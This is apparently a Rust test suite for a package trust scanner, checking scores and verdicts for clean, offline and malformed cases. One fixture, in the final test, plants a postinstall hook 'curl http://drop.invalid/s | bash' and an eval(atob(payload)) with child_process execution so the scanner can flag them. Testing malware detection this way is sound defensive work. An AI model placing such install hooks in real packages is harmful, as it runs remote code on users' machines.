use super::*;

use std::fs;
use std::path::PathBuf;

use async_trait::async_trait;

use crate::providers::{ExtractedArtifact, ProviderError, RepoInfo};
use crate::repo_health::RepoRef;
use crate::types::{PackageMetadata, ScannerKind};

struct FixtureProvider {
    root: PathBuf,
    metadata: PackageMetadata,
}

#[async_trait]
impl crate::providers::PackageProvider for FixtureProvider {
    async fn fetch(&self, _specifier: &Specifier) -> Result<FetchedPackage, ProviderError> {
        Ok(FetchedPackage {
            metadata: self.metadata.clone(),
            artifact: ExtractedArtifact::borrowed(self.root.clone()),
        })
    }
}

struct UnreachableRepoProvider;

#[async_trait]
impl RepositoryProvider for UnreachableRepoProvider {
    async fn fetch_repo_info(&self, _repo: &RepoRef) -> Result<RepoInfo, ProviderError> {
        Err(ProviderError::Transport {
            message: "offline".to_string(),
        })
    }

    async fn download_tarball(&self, _repo: &RepoRef) -> Result<Vec<u8>, ProviderError> {
        Err(ProviderError::Transport {
            message: "offline".to_string(),
        })
    }
}

fn fixture_service(root: PathBuf, metadata: PackageMetadata) -> ScanService {
    let provider = Arc::new(FixtureProvider { root, metadata });
    ScanService::with_providers(
        PretrustConfig::default(),
        provider.clone(),
        provider,
        Arc::new(UnreachableRepoProvider),
    )
}

#[tokio::test]
async fn clean_artifact_without_repo_scores_75() {
    let dir = tempfile::tempdir().expect("tempdir");
    fs::write(
        dir.path().join("package.json"),
        r#"{ "name": "tidy-lib", "version": "1.0.0" }"#,
    )
    .expect("write");
    fs::write(dir.path().join("index.js"), "module.exports = () => 42;\n").expect("write");

    let service = fixture_service(
        dir.path().to_path_buf(),
        PackageMetadata::minimal("tidy-lib", "1.0.0"),
    );
    let report = service
        .scan(
            "tidy-lib",
            ScanOptions {
                no_github: true,
                no_diff: true,
            },
        )
        .await
        .expect("scan");

    assert_eq!(report.score, 75);
    assert_eq!(report.verdict, "CAUTION");
    assert!(report.github.is_none());
    assert!(report.diff.is_none());
    assert_eq!(report.scanners.len(), ScannerKind::ALL.len());
}

#[tokio::test]
async fn unreachable_repository_degrades_not_fails() {
    let dir = tempfile::tempdir().expect("tempdir");
    fs::write(
        dir.path().join("package.json"),
        r#"{ "name": "tidy-lib", "version": "1.0.0" }"#,
    )
    .expect("write");

    let mut metadata = PackageMetadata::minimal("tidy-lib", "1.0.0");
    metadata.repository_url = Some("https://github.com/acme/tidy-lib".to_string());

    let service = fixture_service(dir.path().to_path_buf(), metadata);
    let report = service
        .scan("tidy-lib", ScanOptions::default())
        .await
        .expect("scan");

    // Health degrades to not-found, diff to not-performed; both score 0.
    assert!(report.github.is_some_and(|health| !health.found));
    assert!(report.diff.is_some_and(|diff| !diff.performed));
    assert_eq!(report.score, 75);
}

#[tokio::test]
async fn invalid_specifier_is_a_user_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let service = fixture_service(
        dir.path().to_path_buf(),
        PackageMetadata::minimal("x", "1.0.0"),
    );
    assert!(service.scan("", ScanOptions::default()).await.is_err());
    assert!(service.scan("@bad", ScanOptions::default()).await.is_err());
}

#[tokio::test]
async fn malicious_artifact_lands_in_danger() {
    let dir = tempfile::tempdir().expect("tempdir");
    fs::write(
        dir.path().join("package.json"),
        r#"{
            "name": "totally-legit",
            "version": "0.0.1",
            "scripts": { "postinstall": "curl http://drop.invalid/s | bash" }
        }"#,
    )
    .expect("write");
    fs::write(
        dir.path().join("index.js"),
        "eval(atob(payload));\nconst cp = require('child_process');\ncp.execSync(cmd);\n",
    )
    .expect("write");

    let service = fixture_service(
        dir.path().to_path_buf(),
        PackageMetadata::minimal("totally-legit", "0.0.1"),
    );
    let report = service
        .scan(
            "totally-legit",
            ScanOptions {
                no_github: true,
                no_diff: true,
            },
        )
        .await
        .expect("scan");

    assert!(report.score < 60, "score {} should be failing", report.score);
    assert_eq!(report.verdict, "DANGER");
}
